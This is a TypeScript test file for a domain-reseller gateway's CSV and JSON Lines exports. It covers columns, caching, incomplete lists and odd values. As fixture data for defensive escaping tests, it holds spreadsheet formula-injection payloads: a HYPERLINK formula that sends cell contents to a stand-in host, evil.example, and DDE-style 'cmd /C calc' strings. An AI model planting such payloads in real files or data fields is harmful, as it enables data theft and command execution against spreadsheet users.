import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { openShop, type Shop } from '../../../../test/graph/purchases/shop.ts';
import { read } from '../../../../test/graph/reads/reads.ts';
import { startRecordedGateway } from '../../../../test/graph/writes/recorded-gateway.ts';
import { ada } from '../../../../test/support/ada.ts';
import { csvObjects, parseCsv } from '../../../../test/support/csv.ts';
import { startTestGateway } from '../../../../test/support/gateway.ts';
import { systemClock } from '../../../lib/system.ts';
import { download, jsonObjects, listReply, listRow } from './downloads.ts';

const gateway = await startTestGateway({
  sandboxDomains: 150,
  env: { DOMAIN_MAX_AGE_SECONDS: '600', TLD_MAX_AGE_SECONDS: '600' },
});
afterAll(() => gateway.close());
beforeEach(() => gateway.resetCalls());

const columns = [
  ...['name', 'unicodeName', 'state', 'status', 'registeredAt', 'expiresAt', 'transferLocked'],
  ...['privacyProtected', 'nameServers', 'upstreamId', 'customer', 'labels'],
];
const graphColumns = columns.slice(0, -1).join(' ');

/** All domains of the graph, with the fields of an export. */
async function domainsOfGraph() {
  const nodes: Record<string, unknown>[] = [];
  for (let after: string | null = null; ; ) {
    const { domains } = await read(
      gateway,
      `query ($after: String) { domains(first: 100, after: $after) {
        nodes { ${graphColumns} } pageInfo { hasNextPage endCursor } } }`,
      { after },
    );
    // No domain has a label here.
    nodes.push(...domains.nodes.map((node: object) => ({ ...node, labels: null })));
    if (!domains.pageInfo.hasNextPage) return nodes;
    after = domains.pageInfo.endCursor;
  }
}

const cellOf = (value: unknown): string =>
  Array.isArray(value) ? value.join(' ') : String(value ?? '');

describe('domains', () => {
  test('cost one getdomainlist for both files and the graph, and none while the list is cached', async () => {
    const fresh = await startTestGateway({
      sandboxDomains: 10,
      env: { DOMAIN_MAX_AGE_SECONDS: '600' },
    });
    await download(fresh, 'domains.csv');
    const first = await fresh.countCalls();
    await download(fresh, 'domains.csv');
    await download(fresh, 'domains.jsonl');
    await read(fresh, '{ domains { totalCount } }');
    const all = await fresh.countCalls();
    await fresh.close();

    expect(first).toEqual({ getdomainlist: 1 });
    expect(all).toEqual({ getdomainlist: 1 });
  });

  test('in CSV have the values of the graph, by name, in the documented columns', async () => {
    const { status, headers, text } = await download(gateway, 'domains.csv');
    const [names, ...records] = parseCsv(text);
    const expected = await domainsOfGraph();

    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="domains.csv"',
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
      'x-list-complete': 'true',
    });
    expect(names).toEqual(columns);
    expect(records).toHaveLength(150);
    expect(records).toEqual(expected.map((row) => columns.map((name) => cellOf(row[name]))));
    const states = new Set(records.map(([, , state]) => state));
    expect(states.size).toBeGreaterThan(6);
  });

  test('in JSON Lines have the values of the graph as JSON', async () => {
    const { headers, text } = await download(gateway, 'domains.jsonl');

    expect(headers).toMatchObject({
      'content-type': 'application/jsonl',
      'content-disposition': 'attachment; filename="domains.jsonl"',
    });
    expect(jsonObjects(text)).toEqual(await domainsOfGraph());
  });

  test('are dated by the list, which the graph shows as asOf', async () => {
    const { headers } = await download(gateway, 'domains.csv');
    const { domains } = await read(gateway, '{ domains { coverage { asOf } } }');

    const seconds = new Date(domains.coverage.asOf).setMilliseconds(0);
    expect(headers['last-modified']).toBe(new Date(seconds).toUTCString());
  });

  test('can be sent back to the graph by the first column', async () => {
    const { text } = await download(gateway, 'domains.csv');
    const names = csvObjects(text).map(({ name }) => name);
    const { domainsByName } = await read(
      gateway,
      'query ($names: [String!]!) { domainsByName(names: $names) { name } }',
      { names: names.slice(0, 100) },
    );

    expect(domainsByName.map(({ name }: { name: string }) => name)).toEqual(names.slice(0, 100));
  });

  test('and sums are called incomplete when the registrar counts more than it sends', async () => {
    const truncated = await startTestGateway({ sandboxDomains: 30, sandboxListSize: 20 });
    const { headers, text } = await download(truncated, 'domains.csv');
    const { reseller } = await read(
      truncated,
      `{ reseller {
        renewalsDue(days: 3650) { covered coveredReason coverage { complete nextStep } }
        renewalsCovered { covered coveredReason }
      } }`,
    );
    await truncated.close();

    expect(headers['x-list-complete']).toBe('false');
    expect(headers['content-disposition']).toBe('attachment; filename="domains-incomplete.csv"');
    expect(csvObjects(text)).toHaveLength(20);
    const nextStep =
      'The gateway does not know 10 domains that the registrar counts: add their names with trackDomains or "npm run domains -- import FILE".';
    const reason = `The list of domains is not complete. ${nextStep}`;
    expect(headers['x-list-next-step']).toBe(nextStep);
    expect(reseller).toEqual({
      renewalsDue: {
        covered: null,
        coveredReason: reason,
        coverage: { complete: false, nextStep },
      },
      renewalsCovered: { covered: null, coveredReason: reason },
    });
  });

  test('of an empty account are a header row alone', async () => {
    const { gateway: odd, replyNext, close } = await startRecordedGateway();
    replyNext(listReply([]));
    replyNext(listReply([]));
    const asCsv = await download(odd, 'domains.csv');
    const asJson = await download(odd, 'domains.jsonl');
    await close();

    expect(asCsv.text).toBe(`${columns.join()}\r\n`);
    expect(asJson).toMatchObject({ status: 200, text: '' });
  });
});

describe('domains with odd values', () => {
  const rows = [
    listRow('formula.com', {
      Status: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      NameServers: ['@ns1.evil.example', '+ns2'],
    }),
    listRow('minus.com', { Status: "-2+3+cmd|' /C calc'!A0", NameServers: ['\tns', 'a,b'] }),
    listRow('quoted.com', { Status: 'a "b", c\r\nd', NameServers: [] }),
    listRow('unreadable.com', {
      ...{ ID: {}, Status: {}, LockStatus: 'maybe', PrivacyProtectionStatus: null },
      ...{ Dates: { Start: 'yesterday', Expiration: 5 }, NameServers: 'ns1' },
    }),
    listRow('xn--bcher-kva.com', { ID: '', Dates: { Start: '', Expiration: '' } }),
  ];
  let recorded: Awaited<ReturnType<typeof startRecordedGateway>>;
  beforeAll(async () => {
    recorded = await startRecordedGateway({ env: { DOMAIN_MAX_AGE_SECONDS: '600' } });
    recorded.replyNext(listReply(rows));
  });
  afterAll(() => recorded?.close());

  test('have an apostrophe before each text that a spreadsheet would run', async () => {
    const { text } = await download(recorded.gateway, 'domains.csv');

    expect(csvObjects(text).slice(0, 3)).toMatchObject([
      {
        name: 'formula.com',
        status: '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        nameServers: "'@ns1.evil.example +ns2",
      },
      { name: 'minus.com', status: "'-2+3+cmd|' /C calc'!A0" },
      { name: 'quoted.com', status: 'a "b", c\r\nd', nameServers: '' },
    ]);
  });

  test('have empty cells, and null in JSON, for fields that cannot be read or have no value', async () => {
    const nothing = {
      ...{ status: null, registeredAt: null, expiresAt: null, transferLocked: null },
      ...{ privacyProtected: null, nameServers: null, upstreamId: null, state: 'UNKNOWN' },
      ...{ customer: null, labels: null },
    };
    const [, , , unreadable, international] = jsonObjects(
      (await download(recorded.gateway, 'domains.jsonl')).text,
    );
    const records = parseCsv((await download(recorded.gateway, 'domains.csv')).text);

    expect(unreadable).toEqual({
      ...{ name: 'unreadable.com', unicodeName: 'unreadable.com', ...nothing },
    });
    expect(records[4]).toEqual([
      ...['unreadable.com', 'unreadable.com', 'UNKNOWN', '', '', '', '', '', '', '', '', ''],
    ]);
    expect(international).toMatchObject({
      ...{ name: 'xn--bcher-kva.com', unicodeName: 'bücher.com', upstreamId: null },
      ...{ registeredAt: null, expiresAt: null },
    });
  });

  test('never have an auth code', async () => {
    for (const file of ['domains.csv', 'domains.jsonl']) {
      const { text } = await download(recorded.gateway, file);
      expect(text).toContain('formula.com');
      expect(text).not.toContain('Secret-Code-01');
    }
  });
});

describe('prices', () => {
  test('have every price of the graph, and cost one tldlist, or none while it is cached', async () => {
    const fresh = await startTestGateway({
      sandboxDomains: 5,
      env: { TLD_MAX_AGE_SECONDS: '600' },
    });
    const { status, headers, text } = await download(fresh, 'prices.csv');
    const first = await fresh.countCalls();
    await download(fresh, 'prices.csv');
    const { tlds } = await read(
      fresh,
      `{ tlds(first: 1000) { nodes { name prices {
        operation period price { amount currency } cost { amount currency } upstreamOperation } } } }`,
    );
    const all = await fresh.countCalls();
    await fresh.close();

    type Tld = { name: string; prices: readonly Price[] };
    type Money = { amount: string; currency: string };
    type Price = Record<string, unknown> & { price: Money; cost: Money };
    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'content-disposition': 'attachment; filename="prices.csv"',
      'x-list-complete': 'true',
    });
    expect(parseCsv(text)).toEqual([
      [
        ...['tld', 'operation', 'period', 'amount', 'currency', 'upstreamOperation'],
        ...['cost', 'costCurrency'],
      ],
      ...tlds.nodes.flatMap(({ name, prices }: Tld) =>
        prices.map(({ operation, period, price, cost, upstreamOperation }) => [
          ...[name, operation, `${period}`, price.amount, price.currency, upstreamOperation],
          ...[cost.amount, cost.currency],
        ]),
      ),
    ]);
    expect(first).toEqual({ tldlist: 1 });
    expect(all).toEqual({ tldlist: 1 });
  });

  test('have empty cells for an amount that is negative or cannot be read', async () => {
    const { gateway: odd, replyNext, close } = await startRecordedGateway();
    const pricing = { registration: { 1: '-5.0000', 2: 'free' }, '=setup': { 1: '1.5' } };
    const currencies = { registration: 'USD', '=setup': 'USD' };
    const data = [{ id: 1, tld: 'com', status: 'Active', pricing, currencies }, { tld: 5 }];
    replyNext({ status: 200, body: JSON.stringify({ result: 'OK', data }) });
    const { headers, text } = await download(odd, 'prices.csv');
    await close();

    expect(parseCsv(text).slice(1)).toEqual([
      ['com', 'REGISTRATION', '1', '', '', 'registration', '', ''],
      ['com', 'REGISTRATION', '2', '', '', 'registration', '', ''],
      ['com', 'OTHER', '1', '3.0000', 'USD', "'=setup", '1.5000', 'USD'],
    ]);
    expect(headers['x-list-complete']).toBe('false');
  });

  test('are dated by the cached list', async () => {
    let aheadMs = 0;
    const clock = {
      ...systemClock,
      now: () => new Date(Date.now() + aheadMs),
      monotonicMs: () => systemClock.monotonicMs() + aheadMs,
    };
    const env = { TLD_MAX_AGE_SECONDS: '600' };
    const cached = await startTestGateway({ sandboxDomains: 5, clock, env });
    const before = await download(cached, 'prices.csv');
    aheadMs = 300_000;
    const after = await download(cached, 'prices.csv');
    await cached.close();

    const [one = 0, two = 0] = [before, after].map(({ headers }) =>
      Date.parse(headers['last-modified'] ?? ''),
    );
    expect(Math.abs(one - Date.now())).toBeLessThan(60_000);
    expect(Math.abs(two - one)).toBeLessThanOrEqual(1_000);
  });
});

describe('purchases', () => {
  let shop: Shop;
  beforeAll(async () => {
    shop = await openShop();
  });
  afterAll(() => shop?.close());

  test('have the values of the graph, newest first, and cost no upstream call', async () => {
    await shop.register({ domain: 'one-export.com', idempotencyKey: 'export-1', period: 2 });
    await shop.register({ domain: 'two-export.com', idempotencyKey: "=cmd|' /C calc'!A0" });
    await shop.arm('code', { action: 'registerdomain', code: 'API_2306_ERROR' });
    await shop.register({ domain: 'refused-export.com', idempotencyKey: '+1' });
    await shop.transfer({ domain: 'outside-export.com', idempotencyKey: '@x' });
    await shop.gateway.resetCalls();

    const { status, headers, text } = await download(shop.gateway, 'purchases.csv');
    const calls = await shop.gateway.countCalls();
    const { purchases } = await read(
      shop.gateway,
      `{ purchases { nodes { id kind domainName period state price { amount currency } cost { amount currency } caller key
        createdAt settledAt errors { code executed upstreamCode }
        transfer { refunded } } } }`,
    );

    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'content-disposition': 'attachment; filename="purchases.csv"',
      'x-list-complete': 'true',
    });
    expect(calls).toEqual({});
    const rows = csvObjects(text);
    expect(rows.map(({ domain, state, key }) => [domain, state, key])).toEqual([
      ['outside-export.com', 'IN_PROGRESS', "'@x"],
      ['refused-export.com', 'FAILED', "'+1"],
      ['two-export.com', 'SUCCEEDED', "'=cmd|' /C calc'!A0"],
      ['one-export.com', 'SUCCEEDED', 'export-1'],
    ]);
    expect(rows[1]).toMatchObject({
      ...{ errorCode: 'POLICY', executed: 'NO', upstreamCode: 'API_2306_ERROR' },
    });
    // biome-ignore lint/suspicious/noExplicitAny: rows of the graph
    const expected = purchases.nodes.map((node: any, at: number) => ({
      ...{ id: node.id, kind: node.kind, domain: node.domainName, period: `${node.period}` },
      ...{ state: node.state, price: node.price.amount, currency: node.price.currency },
      ...{ cost: node.cost.amount, costCurrency: node.cost.currency },
      ...{ caller: cellOf(node.caller), key: rows[at]?.key, createdAt: node.createdAt },
      ...{ settledAt: cellOf(node.settledAt), errorCode: cellOf(node.errors[0]?.code) },
      ...{ executed: cellOf(node.errors[0]?.executed), refunded: cellOf(node.transfer?.refunded) },
      ...{ orderId: '', orderLine: '', upstreamMessage: '', customer: '' },
      upstreamCode: cellOf(node.errors[0]?.upstreamCode),
    }));
    expect(rows).toEqual(expected);
  });

  test('of an order have its id in the graph and their line', async () => {
    const { data } = await shop.gateway.query(
      `mutation ($input: PlaceOrderInput!) { placeOrder(input: $input) { order { id } errors { message } } }`,
      {
        input: {
          idempotencyKey: 'export-order',
          lines: [
            { registration: { domain: 'line-0.com' } },
            { registration: { domain: 'line-1.com' } },
          ],
          defaults: {
            nameServers: ['ns1.example-dns.net', 'ns2.example-dns.net'],
            registrant: { fields: ada },
          },
        },
      },
    );
    expect(data.placeOrder.errors).toEqual([]);
    const { id } = data.placeOrder.order;
    await expect
      .poll(async () => {
        const rows = csvObjects((await download(shop.gateway, 'purchases.csv')).text);
        return rows
          .filter(({ orderId, state }) => orderId === id && state === 'SUCCEEDED')
          .map(({ domain, orderLine }) => `${domain} ${orderLine}`)
          .toSorted();
      })
      .toEqual(['line-0.com 0', 'line-1.com 1']);
  });
});
